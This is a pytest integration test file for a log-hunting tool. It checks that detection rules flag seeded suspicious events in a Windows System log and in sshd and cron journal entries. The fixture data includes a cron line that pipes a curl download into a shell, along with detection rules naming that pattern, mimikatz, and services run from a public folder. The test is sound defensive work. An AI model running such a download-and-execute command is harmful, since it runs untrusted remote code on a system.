"""Hunts over real peers: a Samba server's System log over win://, and sshd + journal files
over ssh:// (the fixtures of tests/testbed), with rules written for what they hold. The query
of each sweep is what the rule set wants (RuleSet.wanted): only those logs, event ids and
journald identifiers are read."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from eventsweep import cli
from eventsweep.detect import RuleSet, Wanted, load_rules
from eventsweep.model import Query
from eventsweep.sources import Settings
from eventsweep.sources.winrpc.options import WinOptions
from tests.testbed import sshd
from tests.testbed.journals import Entry, make_journal
from tests.testbed.run import sweep
from tests.testbed.samba import LogRecord, Samba, samba_with

pytestmark = pytest.mark.servers

PASSWORD = "Root-pw-1"
NOW = int(time.time()) // 60 * 60

SERVICE_RULE = """title: Service installed from a public folder
id: 10000000-0000-0000-0000-000000000001
status: experimental
level: high
logsource:
  product: windows
  service: system
detection:
  selection:
    Provider_Name: Service Control Manager
    EventID: 7045
    strings|contains: '\\Users\\Public\\'
  condition: selection
"""
KEYWORD_RULE = """title: Mimikatz named in the System log
id: 10000000-0000-0000-0000-000000000002
status: experimental
level: critical
logsource:
  product: windows
  service: system
detection:
  keywords:
    - mimikatz
  condition: keywords
"""
SSHD_RULE = """title: Failed password for root
id: 20000000-0000-0000-0000-000000000001
status: experimental
level: medium
logsource:
  product: linux
  service: sshd
detection:
  keywords:
    - 'Failed password for root'
  condition: keywords
"""
CRON_RULE = """title: Cron pipes a download into a shell
id: 20000000-0000-0000-0000-000000000002
status: experimental
level: high
logsource:
  product: linux
  service: cron
detection:
  selection:
    MESSAGE|contains|all:
      - curl
      - '| sh'
  condition: selection
"""


def rules_of(tmp_path: Path, *texts: str) -> RuleSet:
    for number, text in enumerate(texts):
        (tmp_path / f"rule{number}.yml").write_text(text)
    rules = load_rules([str(tmp_path)])
    assert rules.problems == ()
    return rules


def pushed(wanted: Wanted) -> Query:
    """The query a hunt sends: only what some rule wants."""
    return Query(
        logs=tuple(sorted(wanted.logs or ())),
        event_ids=tuple((number, number) for number in sorted(wanted.event_ids or ())),
        sources=frozenset(name.lower() for name in wanted.identifiers or ()),
    )


@pytest.fixture(scope="module")
def samba() -> Iterator[Samba]:
    records = [
        LogRecord(NOW - 300, event_id=7036, source="Service Control Manager",
                  strings=("Print Spooler", "running")),
        LogRecord(NOW - 200, event_id=7045, source="Service Control Manager",
                  strings=("Updater", "C:\\Users\\Public\\upd.exe", "user mode")),
        LogRecord(NOW - 150, event_id=7045, source="Service Control Manager",
                  strings=("Legit", "C:\\Program Files\\legit.exe", "user mode")),
        LogRecord(NOW - 100, event_id=1000, source="Application Error",
                  strings=("mimikatz.exe", "crashed")),
    ]  # fmt: skip
    with samba_with({"System": records}, PASSWORD) as server:
        yield server


def test_a_hunt_over_win_rpc(samba: Samba, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVENTSWEEP_PASSWORD", PASSWORD)
    monkeypatch.delenv("EVENTSWEEP_NTHASH", raising=False)
    rules = rules_of(tmp_path, SERVICE_RULE, KEYWORD_RULE)
    wanted = rules.wanted()
    assert wanted.logs == frozenset({"system"}) and wanted.event_ids is None  # keywords: any
    events, outcomes = sweep(
        [samba.url("System")], Settings.of(win=WinOptions(connect_timeout=10.0)), pushed(wanted)
    )
    assert [outcome.status for outcome in outcomes] == ["ok"]
    assert len(events) == 4
    found = [(event.event_id, d.title, d.fields) for event in events for d in rules.match(event)]
    assert sorted(found) == [
        (1000, "Mimikatz named in the System log", ("message", "strings")),
        (7045, "Service installed from a public folder", ("source", "event_id", "strings")),
    ]


ADDRESS = "127.0.0.2"
T0 = 1_700_000_000_000_000
ENTRIES = [
    Entry(T0, "Failed password for root from 10.0.0.1 port 4711 ssh2", identifier="sshd"),
    Entry(T0 + 1, "Failed password for bob from 10.0.0.1 port 4712 ssh2", identifier="sshd"),
    Entry(T0 + 2, "Accepted publickey for admin", identifier="sshd"),
    Entry(T0 + 3, "(root) CMD (curl -s http://x.example/a | sh)", identifier="CRON"),
    Entry(T0 + 4, "(root) CMD (run-parts /etc/cron.hourly)", identifier="CRON"),
    Entry(T0 + 5, "Failed password for root (said the app)", identifier="app"),
]


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sshd.Fleet]:
    with sshd.running(tmp_path_factory.mktemp("fleet"), [ADDRESS]) as running:
        make_journal(running.journal_dir(ADDRESS), ENTRIES)
        yield running


def test_a_hunt_over_ssh_and_the_journal(fleet: sshd.Fleet, tmp_path: Path) -> None:
    rules = rules_of(tmp_path, SSHD_RULE, CRON_RULE)
    wanted = rules.wanted()
    assert wanted.identifiers == frozenset({"sshd", "cron", "CRON", "crond"})
    events, outcomes = sweep([fleet.target(ADDRESS)], fleet.settings(), pushed(wanted))
    assert [outcome.status for outcome in outcomes] == ["ok"]
    assert {event.source for event in events} == {"sshd", "CRON"}  # "app" was not read
    found = sorted((event.message, d.title) for event in events for d in rules.match(event))
    assert found == [
        ("(root) CMD (curl -s http://x.example/a | sh)", "Cron pipes a download into a shell"),
        ("Failed password for root from 10.0.0.1 port 4711 ssh2", "Failed password for root"),
    ]


def test_the_hunt_command_over_win_rpc_and_ssh_with_and_without_a_store(
    samba: Samba,
    fleet: sshd.Fleet,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Without a store, a remote target's events are matched as its source yields them and
    only detections are handed on (detect.matching); with one, every event is stored and the
    output matches. The detections and the counts of events read are the same both ways."""
    monkeypatch.setenv("EVENTSWEEP_PASSWORD", PASSWORD)
    monkeypatch.delenv("EVENTSWEEP_NTHASH", raising=False)
    folder = tmp_path / "rules"
    folder.mkdir()
    rules_of(folder, SERVICE_RULE, KEYWORD_RULE, SSHD_RULE, CRON_RULE)
    targets = [samba.url("System"), fleet.target(ADDRESS)]
    ssh = ["--known-hosts", str(fleet.known_hosts), "--ssh-config", str(fleet.ssh_config)]
    found = {}
    for store in ("--no-store", "--store"):
        outcomes = tmp_path / f"outcomes{store}.jsonl"
        argv = ["hunt", *targets, "--rules", str(folder), "--since", "100000d", "--format"]
        argv += ["jsonl", "--outcomes", str(outcomes), *ssh]
        if store == "--no-store":
            argv.append(store)
        assert cli.main(argv) == 0
        lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
        detections = sorted((d["target"], d["message"], d["rule"]["title"]) for d in lines)
        read = {
            o["target"]: (o["status"], o["events"])
            for o in map(json.loads, outcomes.read_text().splitlines())
        }
        found[store] = detections, read
    assert found["--no-store"] == found["--store"]
    detections, read = found["--store"]
    assert [title for _, _, title in detections] == [
        "Cron pipes a download into a shell",  # ssh://…
        "Failed password for root",
        "Service installed from a public folder",  # win://…
        "Mimikatz named in the System log",
    ]
    assert read == {targets[0]: ("ok", 4), targets[1]: ("ok", 5)}  # "app" was not read
